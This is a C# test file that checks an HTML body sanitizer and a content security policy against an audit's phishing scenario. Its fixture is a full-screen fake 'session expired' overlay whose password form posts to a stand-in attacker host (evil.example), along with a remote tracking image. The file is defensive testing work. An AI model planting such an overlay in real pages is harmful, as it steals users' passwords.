using Masthead.Publishing.Body;
using Masthead.Publishing.Delivery;
using Masthead.Tests.Infrastructure;

namespace Masthead.Tests.Security;

/// <summary>The audit's phishing overlay: a body may not hold a form, leave its column, load styles from elsewhere or
/// name another site as a path.</summary>
public sealed class BodySanitizerTests
{
    private readonly BodyRenderer renderer = new();

    private const string Overlay = """
        <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white;color:#333">
        <h2>Your session expired</h2>
        <form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example/x">Sign in</button>
        <select name="s"><option>a</option></select><textarea name="t"></textarea></form>
        </div>
        <p style="background-image:url(https://tracker.example/t.gif)">Tracked</p>
        <p><a href="//evil.example/login">a protocol-relative link</a> <img src="//evil.example/pixel.gif" alt=""></p>
        """;

    [Fact]
    public void A_fake_login_overlay_loses_its_form_its_position_and_its_remote_style()
    {
        var body = Html.Parse(renderer.SanitizeHtml(Overlay)).Body!;
        Assert.Empty(body.QuerySelectorAll("form, input, button, select, option, textarea"));
        var box = body.QuerySelector("div")!;
        Assert.Equal(("Your session expired", "width: 100%; height: 100%; background: rgba(255, 255, 255, 1); color: rgba(51, 51, 51, 1)"),
            (box.QuerySelector("h2")!.TextContent, box.GetAttribute("style")));
        Assert.Equal(("Tracked", null), (body.QuerySelectorAll("p")[0].TextContent, body.QuerySelectorAll("p")[0].GetAttribute("style")));
        Assert.Equal(("https://evil.example/login", "https://evil.example/pixel.gif"),
            (body.QuerySelector("a")!.GetAttribute("href"), body.QuerySelector("img")!.GetAttribute("src")));
    }

    [Fact]
    public void Sanitizing_twice_changes_nothing()
    {
        var once = renderer.SanitizeHtml(Overlay);
        Assert.Equal(once, renderer.SanitizeHtml(once));
    }

    [Fact]
    public void Forms_post_only_to_the_site_itself() =>
        Assert.Contains("form-action 'self'", SiteDelivery.ContentSecurityPolicy.Split(';').Select(d => d.Trim()));
}
